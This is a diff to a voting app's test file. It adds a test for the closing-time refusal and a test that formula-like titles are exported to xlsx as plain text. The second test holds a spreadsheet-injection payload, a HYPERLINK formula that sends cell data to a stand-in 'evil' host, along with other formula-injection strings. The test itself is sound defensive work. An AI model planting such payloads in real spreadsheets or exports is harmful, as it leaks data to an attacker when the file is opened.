@@ -1,6 +1,7 @@
 """The vote's pages: the secretary's motion, the delegate's ballot on a phone with its
 confirmation step, every refusal, and the results with their exports."""
 
+from datetime import UTC, datetime, timedelta
 from io import BytesIO
 
 import pytest
@@ -8,6 +9,7 @@ import sqlalchemy as sa
 from openpyxl import load_workbook
 from pypdf import PdfReader
 
+from app import clock
 from app.audit.operations import history
 from app.congress import operations as ops
 from app.congress.models import Ballot, Delegate, Motion, Participation
@@ -123,6 +125,23 @@ def test_a_refused_vote_says_why_and_stores_nothing(
     assert stored() == before
 
 
+def test_the_ballot_page_refuses_once_the_closing_time_has_passed_though_the_tick_has_not_run(
+    client, sign_in, sitting, monkeypatch
+):
+    closes = datetime(2026, 6, 20, 4, tzinfo=UTC)  # 12:00 in Beijing
+    motion = open_motion(sitting, closes_at=closes)
+    db.session.commit()
+    monkeypatch.setattr(clock, "now", lambda: closes + timedelta(minutes=5))
+    sign_in(sitting.delegates[0])
+    url = f"/motions/{motion.id}/vote"
+
+    assert "Voting on this motion closed at 12:00." in text(client.get(url), 409)
+    page = text(client.post(url, data={**ANSWERS, "step": "cast"}), 409)
+
+    assert "Voting on this motion closed at 12:00." in page
+    assert motion.state == "open" and stored() == (0, 0)
+
+
 def test_the_secretary_runs_a_motion_and_reads_the_results(client, sign_in, sitting):
     ops.open_session(sitting.session, sitting.secretary)
     check_in(sitting, TOTAL)
@@ -209,6 +228,26 @@ def test_the_counts_download_as_a_workbook(client, sign_in, sitting, closed_vote
     assert [3, "第3项", 0, 20, 0, 0, 16, "failed"] in rows
     assert ["Seal (SHA-256)", closed_vote.seal] in [r[:2] for r in rows]
     assert any(str(r[1]).startswith("An item passes with yes votes") for r in rows if r[0])
+
+
+def test_a_title_that_looks_like_a_formula_is_exported_as_text(client, sign_in, sitting):
+    formula = '=HYPERLINK("http://evil/?"&A1,"x")'
+    ops.open_session(sitting.session, sitting.secretary)
+    check_in(sitting, TOTAL)
+    motion = ops.create_motion(
+        sitting.session, sitting.secretary, title=formula, items=[("+1+1", ""), ("@SUM(A1)", "")]
+    )
+    ops.open_voting(motion, sitting.secretary)
+    ops.close_voting(motion, sitting.secretary)
+    db.session.commit()
+    sign_in(sitting.delegates[0])
+
+    response = client.get(f"/motions/{motion.id}/results.xlsx")
+
+    sheet = load_workbook(BytesIO(response.data)).active
+    cells = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row}
+    assert cells[formula] == cells["+1+1"] == cells["@SUM(A1)"] == "s"
+    assert "f" not in cells.values()
 
 
 def pdf_text(data: bytes) -> str:
